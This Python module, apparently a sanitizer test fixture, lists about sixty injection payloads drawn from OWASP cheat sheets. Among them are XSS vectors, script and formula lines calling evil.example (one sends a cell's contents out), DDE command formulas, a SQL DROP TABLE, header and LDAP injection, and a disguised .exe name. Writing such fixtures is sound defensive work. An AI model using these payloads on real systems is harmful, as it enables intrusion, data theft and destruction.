"""Sixty texts that have run, or broken out, somewhere: each would set `__pwned` in a browser.

After OWASP's cheat sheets on cross-site scripting, CSV, headers and SQL, and what filters and
parsers were caught at: mutation, encodings, directions of writing.
"""

RUN = "window.__pwned=1"
MARK = "pwned"
"""What no element, attribute, header or address may be made of."""

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/pwned.js></script>",
    f"<script/x>{RUN}</script",
    f"<<script>{RUN}//<</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
]
ELEMENTS = [
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={RUN}>'>",
    f"<details open ontoggle={RUN}>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.__pwned=1'></iframe>",
    "<object data='javascript:window.__pwned=1'></object>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<template shadowrootmode=open><img src onerror={RUN}></template>",
    "<base href='https://evil.example/pwned/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/pwned'>",
    "<form action='https://evil.example/pwned'><button>Log in again</button></form>",
    "<link rel=stylesheet href='https://evil.example/pwned.css'>",
]
BREAKOUTS = [
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><img src onerror={RUN}>",
    f"</textarea><img src onerror={RUN}>",
    f"--><img src onerror={RUN}><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onpointerenter='{RUN}' x='",
    f"` onload=`{RUN}`",
    f'"}};{RUN};//',
    f"</noscript><svg/onload={RUN}>",
    f"\u2028{RUN}\u2029//",
    f'{{"@type":"Product","name":"</script><script>{RUN}</script>"}}',
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\u0001javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//evil.example/pwned",
    "https://evil.example/pwned",
]
TEMPLATES = [
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% set x = '{RUN}' %}}{{{{ 7 * 7 }}}}pwned",
    f"${{{RUN}}}",
    f"<%= {RUN} %>",
    f"[pwned](javascript:{RUN})",
    f'![pwned](x" onerror="{RUN})',
    "<style>*{background:url('https://evil.example/pwned')}</style>",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/pwned?"&A1,"Click")',
    "+cmd|' /C calc'!A0pwned",
    "-2+3+cmd|' /C calc'!A0pwned",
    "@SUM(1+1)*cmd|' /C calc'!A0pwned",
    "\t=1+1+pwned",
]
OTHERS = [
    "Ana\r\nBcc: pwned@evil.example\r\n\r\n<script>window.__pwned=1</script>",
    "x'; DROP TABLE orders; --pwned",
    "*)(uid=*))(|(uid=*pwned",
    "\u202e\u2066gnp.exe\u2069pwned\u202c",
]
NULL = "pwned\x00<script>window.__pwned=1</script>"
"""Refused wherever it comes in, so it is in no list of what can be kept."""

PAYLOADS = [*SCRIPTS, *ELEMENTS, *BREAKOUTS, *ADDRESSES, *TEMPLATES, *FORMULAS, *OTHERS]
